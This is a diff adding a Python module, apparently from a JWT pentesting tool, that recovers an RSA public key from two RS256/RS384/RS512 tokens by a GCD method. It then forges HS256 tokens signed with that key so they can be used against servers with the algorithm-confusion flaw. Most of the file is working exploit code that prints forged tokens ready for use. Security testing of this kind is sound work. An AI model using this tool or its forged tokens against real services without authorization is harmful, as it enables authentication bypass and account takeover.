@@ -0,0 +1,324 @@
+"""
+sign2n.py
+
+This file contains the sign2n subcommand, which recovers the RSA public key of two RS256/RS384/RS512 signed tokens
+(automating silentsignal's rsa_sign2n jwt_forgery.py). For a PKCS#1 v1.5 signature s of a message m,
+s^e = pad(hash(m)) mod n, so n divides s^e - pad(hash(m)) for both tokens and can be recovered from the GCD of the two.
+
+The exponentiations are exact, not modular, so for e = 65537 each one produces a number millions of digits long. With
+gmpy2 installed a candidate takes seconds to minutes, but Python's own GCD is quadratic and can take hours, so without
+it only e = 3 keys are practical. Every candidate (public exponent, DigestInfo encoding) combination is tried in a
+separate worker process, and the rest are stopped as soon as one of them yields a plausible modulus.
+
+The recovered key is output as PEM and JWK, along with both tokens re-signed with HS256 using the PEM as the HMAC key,
+ready for algorithm confusion testing.
+
+Functions:
+- sign2n: The main function for the sign2n subcommand, recovers and outputs the public key.
+- prepare_token: Splits a token into its hash algorithm, signature integer and signature length.
+- encode_message: Builds the PKCS#1 v1.5 encoded message that a signature should decrypt to.
+- recover_modulus: Tries every candidate combination across a process pool and returns the first modulus found.
+- public_key_pem: Encodes a public key as PEM (SubjectPublicKeyInfo or PKCS#1 RSAPublicKey).
+- public_key_jwk: Encodes a public key as a JWK.
+"""
+
+import os
+import hmac
+import json
+import math
+import base64
+import hashlib
+import multiprocessing
+from colorama import Fore, Style
+
+import src.utils.parse_token
+import src.utils.error_handler
+
+try:
+    # optional, but makes the exponentiations many times faster
+    import gmpy2
+except ImportError:
+    gmpy2 = None
+
+# JWT alg header value -> hashlib digest name
+RSA_ALGORITHMS = {
+    'RS256': 'sha256',
+    'RS384': 'sha384',
+    'RS512': 'sha512',
+}
+
+# public exponents to try, most likely first
+EXPONENTS = [65537, 3]
+
+# DER encoded DigestInfo prefixes. Most implementations include the NULL algorithm parameters, some omit them.
+DIGEST_INFOS = {
+    'sha256': {
+        'NULL params': bytes.fromhex('3031300d060960864801650304020105000420'),
+        'no params': bytes.fromhex('302f300b06096086480165030402010420'),
+    },
+    'sha384': {
+        'NULL params': bytes.fromhex('3041300d060960864801650304020205000430'),
+        'no params': bytes.fromhex('303f300b06096086480165030402020430'),
+    },
+    'sha512': {
+        'NULL params': bytes.fromhex('3051300d060960864801650304020305000440'),
+        'no params': bytes.fromhex('304f300b06096086480165030402030440'),
+    },
+}
+
+# small factors are divided out of the GCD before it is checked, the true modulus has none
+_SMALL_FACTOR_LIMIT = 1 << 16
+
+# DER encoded AlgorithmIdentifier for rsaEncryption (OID 1.2.840.113549.1.1.1, NULL parameters)
+_RSA_ALGORITHM_IDENTIFIER = bytes.fromhex('300d06092a864886f70d0101010500')
+
+
+def sign2n(tokens: list, exponents: list = None, processes: int = None, output: str = None) -> dict:
+    """
+    Recovers the RSA public key used to sign two tokens and outputs it as PEM and JWK.
+
+    :param tokens: List of two JWTs signed with the same RSA key (RS256, RS384 or RS512).
+    :param exponents: List of public exponents to try, or None for 65537 and 3.
+    :param processes: Number of worker processes to use, or None for one per candidate (up to one per core).
+    :param output: Path prefix to write the key to (<prefix>.pem and <prefix>.jwk), or None.
+    :return: Dictionary object with n, e, pem, pkcs1_pem, jwk and the forged tokens, or None if no key was found.
+    """
+    if len(tokens) != 2 or tokens[0] == tokens[1]:
+        src.utils.error_handler.print_error('Two different RS256/RS384/RS512 tokens signed with the same key are needed.')
+    try:
+        targets = [prepare_token(token) for token in tokens]
+    except ValueError as e:
+        src.utils.error_handler.print_error(str(e))
+    if targets[0][2] != targets[1][2]:
+        src.utils.error_handler.print_error('The tokens have signatures of different lengths, so they were not signed '
+                                            'with the same key.')
+
+    exponents = exponents or EXPONENTS
+    print(Fore.CYAN+'➤  '+Fore.MAGENTA+'Key size: '+Fore.CYAN+str(targets[0][2] * 8)+Fore.MAGENTA+' bits, trying ' +
+          Fore.CYAN+str(len(exponents) * 2)+Fore.MAGENTA+' candidates' +
+          Style.RESET_ALL)
+    if not gmpy2 and max(exponents) > 3:
+        print(Fore.RED+'➤  gmpy2 is not installed, so candidates with e='+str(max(exponents))+' can take hours. '
+              'Install it with: pip install gmpy2'+Style.RESET_ALL)
+
+    found = recover_modulus(targets, exponents, processes)
+    if not found:
+        print(Fore.RED+'➤  No RSA modulus found. The tokens may use PSS padding, another exponent, or different keys.' +
+              Style.RESET_ALL)
+        print()
+        return None
+
+    n, e, variant = found
+    result = {
+        'n': n,
+        'e': e,
+        'pem': public_key_pem(n, e),
+        'pkcs1_pem': public_key_pem(n, e, pkcs1=True),
+        'jwk': public_key_jwk(n, e),
+    }
+    # algorithm confusion: servers that verify with the public key as an HMAC secret accept these
+    result['forged'] = {
+        'x509': [_sign_hs256(token, result['pem']) for token in tokens],
+        'pkcs1': [_sign_hs256(token, result['pkcs1_pem']) for token in tokens],
+    }
+
+    print(Fore.CYAN+'➤  '+Fore.MAGENTA+'Recovered modulus with e='+Fore.CYAN+str(e)+Fore.MAGENTA+' (DigestInfo ' +
+          variant+')'+Style.RESET_ALL)
+    print()
+    print(result['pem'])
+    print(Fore.CYAN+'➤  '+Fore.MAGENTA+'JWK: '+Fore.CYAN+json.dumps(result['jwk'])+Style.RESET_ALL)
+    print()
+    print(Fore.CYAN+'➤  '+Fore.MAGENTA+'Tokens re-signed with HS256 using the public key (X.509 PEM):'+Style.RESET_ALL)
+    for token in result['forged']['x509']:
+        print(token)
+    print(Fore.CYAN+'➤  '+Fore.MAGENTA+'Tokens re-signed with HS256 using the public key (PKCS#1 PEM):'+Style.RESET_ALL)
+    for token in result['forged']['pkcs1']:
+        print(token)
+    print()
+
+    if output:
+        with open(output + '.pem', 'w', encoding='utf-8') as pemfile:
+            pemfile.write(result['pem'])
+        with open(output + '.jwk', 'w', encoding='utf-8') as jwkfile:
+            jwkfile.write(json.dumps(result['jwk']) + '\n')
+        print(Fore.CYAN+'➤  '+Fore.MAGENTA+'Public key written to: '+Fore.CYAN+output+'.pem'+Fore.MAGENTA+', ' +
+              Fore.CYAN+output+'.jwk'+Style.RESET_ALL)
+        print()
+    return result
+
+
+def prepare_token(token: str) -> tuple:
+    """
+    :param token: An RS256/RS384/RS512 signed JWT.
+    :return: Tuple of (hashlib digest name, signing input bytes, signature length in bytes, signature as an integer).
+    """
+    try:
+        header, payload, signature = token.split('.')
+    except ValueError:
+        raise ValueError('JWT not in correct format. Expected: <header>.<payload>.<signature>')
+
+    try:
+        alg = src.utils.parse_token.base64_decode(header).get('alg')
+        signature_bytes = src.utils.parse_token.base64_decode_bytes(signature)
+    except (ValueError, AttributeError):
+        raise ValueError('JWT header or signature could not be decoded.')
+
+    if alg not in RSA_ALGORITHMS:
+        raise ValueError('Unsupported algorithm for public key recovery: ' + str(alg) + '. Supported: ' +
+                         ', '.join(RSA_ALGORITHMS))
+    if not signature_bytes:
+        raise ValueError('JWT has no signature.')
+    # PKCS#1 v1.5 needs 0x00 0x01, at least 8 bytes of FF padding and 0x00 around the DigestInfo and hash
+    digest_name = RSA_ALGORITHMS[alg]
+    minimum = max(len(prefix) for prefix in DIGEST_INFOS[digest_name].values()) + \
+        hashlib.new(digest_name).digest_size + 11
+    if len(signature_bytes) < minimum:
+        raise ValueError('JWT signature is too short for ' + alg + ': ' + str(len(signature_bytes)) + ' bytes, at '
+                         'least ' + str(minimum) + ' are needed.')
+
+    return (digest_name, (header + '.' + payload).encode('ascii'), len(signature_bytes),
+            int.from_bytes(signature_bytes, 'big'))
+
+
+def encode_message(digest_name: str, signing_input: bytes, length: int, variant: str) -> int:
+    """
+    Builds the PKCS#1 v1.5 encoded message 0x00 0x01 FF..FF 0x00 DigestInfo hash, of the same length as the modulus.
+
+    :param digest_name: hashlib digest name.
+    :param signing_input: The signed <header>.<payload> bytes.
+    :param length: Length of the modulus (and signature) in bytes.
+    :param variant: Key of the DigestInfo encoding in DIGEST_INFOS.
+    :return: The encoded message as an integer.
+    """
+    digest_info = DIGEST_INFOS[digest_name][variant] + hashlib.new(digest_name, signing_input).digest()
+    padding = length - len(digest_info) - 3
+    if padding < 8:
+        raise ValueError('Signature too short for ' + digest_name)
+    return int.from_bytes(b'\x00\x01' + b'\xff' * padding + b'\x00' + digest_info, 'big')
+
+
+def recover_modulus(targets: list, exponents: list, processes: int = None) -> tuple:
+    """
+    Tries every (exponent, DigestInfo encoding) candidate in a process pool, stopping every other worker as soon as one
+    finds a modulus.
+
+    :param targets: List of two tuples from prepare_token.
+    :param exponents: List of public exponents to try.
+    :param processes: Number of worker processes to use, or None for one per candidate (up to one per core).
+    :return: Tuple of (n, e, DigestInfo variant), or None if no candidate yields a modulus.
+    """
+    candidates = []
+    for e in exponents:
+        for variant in ('NULL params', 'no params'):
+            candidates.append((e, variant, targets[0][2], [
+                (signature, encode_message(digest_name, signing_input, length, variant))
+                for digest_name, signing_input, length, signature in targets]))
+    # the small exponents are much cheaper, so they go first
+    candidates.sort(key=lambda candidate: candidate[0])
+
+    processes = processes or min(len(candidates), os.cpu_count() or 1)
+    if processes <= 1:
+        return next(filter(None, map(_check_candidate, candidates)), None)
+
+    pool = multiprocessing.Pool(processes)
+    try:
+        for result in pool.imap_unordered(_check_candidate, candidates):
+            if result:
+                return result
+        return None
+    finally:
+        # stops any exponentiation still running, which could otherwise take minutes
+        pool.terminate()
+        pool.join()
+
+
+def public_key_pem(n: int, e: int, pkcs1: bool = False) -> str:
+    """
+    :param n: Modulus.
+    :param e: Public exponent.
+    :param pkcs1: Encode as a PKCS#1 RSAPublicKey instead of an X.509 SubjectPublicKeyInfo? T/F
+    :return: PEM encoded public key, ending with a newline.
+    """
+    rsa_public_key = _der_sequence(_der_integer(n) + _der_integer(e))
+    if pkcs1:
+        label, der = 'RSA PUBLIC KEY', rsa_public_key
+    else:
+        label = 'PUBLIC KEY'
+        der = _der_sequence(_RSA_ALGORITHM_IDENTIFIER + _der_element(0x03, b'\x00' + rsa_public_key))
+    encoded = base64.b64encode(der).decode('ascii')
+    lines = [encoded[i:i + 64] for i in range(0, len(encoded), 64)]
+    return '-----BEGIN ' + label + '-----\n' + '\n'.join(lines) + '\n-----END ' + label + '-----\n'
+
+
+def public_key_jwk(n: int, e: int) -> dict:
+    """
+    :param n: Modulus.
+    :param e: Public exponent.
+    :return: Dictionary object of the public key as a JWK.
+    """
+    return {
+        'kty': 'RSA',
+        'e': src.utils.parse_token.base64_encode_bytes(_int_bytes(e)),
+        'n': src.utils.parse_token.base64_encode_bytes(_int_bytes(n)),
+    }
+
+
+def _check_candidate(candidate: tuple) -> tuple:
+    # runs in a worker: computes gcd(s1^e - m1, s2^e - m2) and checks it is a plausible modulus for the signatures
+    e, variant, length, pairs = candidate
+    (s1, m1), (s2, m2) = pairs
+    bits = length * 8
+    if gmpy2:
+        n = int(gmpy2.gcd(gmpy2.mpz(s1) ** e - m1, gmpy2.mpz(s2) ** e - m2))
+    else:
+        n = math.gcd(s1 ** e - m1, s2 ** e - m2)
+
+    for factor in range(2, _SMALL_FACTOR_LIMIT):
+        if n.bit_length() <= bits:
+            break
+        while n % factor == 0:
+            n //= factor
+
+    # the modulus is as long as the signatures, larger than both, and must actually verify them
+    if not bits - 8 < n.bit_length() <= bits or n <= max(s1, s2):
+        return None
+    if pow(s1, e, n) != m1 % n or pow(s2, e, n) != m2 % n:
+        return None
+    return n, e, variant
+
+
+def _sign_hs256(token: str, key: str) -> str:
+    header, payload = token.split('.')[:2]
+    header_dict = src.utils.parse_token.base64_decode(header)
+    signing_input = src.utils.parse_token.base64_encode({**header_dict, 'alg': 'HS256'}) + '.' + payload
+    signature = hmac.digest(key.encode('ascii'), signing_input.encode('ascii'), 'sha256')
+    return signing_input + '.' + src.utils.parse_token.base64_encode_bytes(signature)
+
+
+def _int_bytes(value: int) -> bytes:
+    return value.to_bytes((value.bit_length() + 7) // 8 or 1, 'big')
+
+
+def _der_length(length: int) -> bytes:
+    if length < 0x80:
+        return bytes([length])
+    encoded = _int_bytes(length)
+    return bytes([0x80 | len(encoded)]) + encoded
+
+
+def _der_element(tag: int, content: bytes) -> bytes:
+    return bytes([tag]) + _der_length(len(content)) + content
+
+
+def _der_integer(value: int) -> bytes:
+    encoded = _int_bytes(value)
+    if encoded[0] & 0x80:
+        # a leading 0x00 keeps the integer positive
+        encoded = b'\x00' + encoded
+    return _der_element(0x02, encoded)
+
+
+def _der_sequence(content: bytes) -> bytes:
+    return _der_element(0x30, content)
+
+